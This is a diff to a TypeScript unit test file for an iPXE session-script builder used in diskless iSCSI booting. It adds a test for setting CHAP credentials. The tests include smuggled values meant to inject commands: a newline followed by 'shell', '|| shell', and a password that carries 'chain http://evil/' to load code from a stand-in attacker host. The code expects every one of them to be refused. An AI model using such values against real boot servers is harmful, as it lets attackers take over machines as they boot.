@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { DisklessSession } from '../api/v1alpha1/diskless-session.js';
+import { generateChapCredentials } from '../targets/chap.js';
 import { buildSessionScript } from './session-script.js';
 
 function session(status: NonNullable<DisklessSession['status']>): DisklessSession {
@@ -30,5 +31,17 @@ exit 1
   it('refuses values that could steer the script', () => {
     expect(buildSessionScript(session({ portal: '10.0.2.2:3260', targetIQN: 'iqn.2024-01.x:a\nshell', initiatorIQN: 'iqn.2024-01.io.bootplane:b' }))).toBeUndefined();
     expect(buildSessionScript(session({ portal: '10.0.2.2:3260 || shell', targetIQN: 'iqn.2024-01.x:a', initiatorIQN: 'iqn.2024-01.io.bootplane:b' }))).toBeUndefined();
+  });
+
+  it('with CHAP credentials sets iPXE\'s username and password before sanboot, and refuses malformed ones', () => {
+    const active = session({ portal: '10.0.2.2:3260', targetIQN: 'iqn.2024-01.io.bootplane:a', initiatorIQN: 'iqn.2024-01.io.bootplane:b' });
+    const chap = generateChapCredentials();
+    const lines = buildSessionScript(active, chap)!.split('\n');
+    const sanboot = lines.findIndex((l) => l.startsWith('sanboot '));
+    expect(lines.indexOf(`set username ${chap.username}`)).toBeGreaterThan(0);
+    expect(lines.indexOf(`set password ${chap.password}`)).toBeGreaterThan(lines.indexOf(`set username ${chap.username}`));
+    expect(lines.indexOf(`set password ${chap.password}`)).toBeLessThan(sanboot);
+    expect(buildSessionScript(active)).not.toContain('set password');
+    expect(buildSessionScript(active, { username: chap.username, password: 'x\nchain http://evil/' })).toBeUndefined();
   });
 });
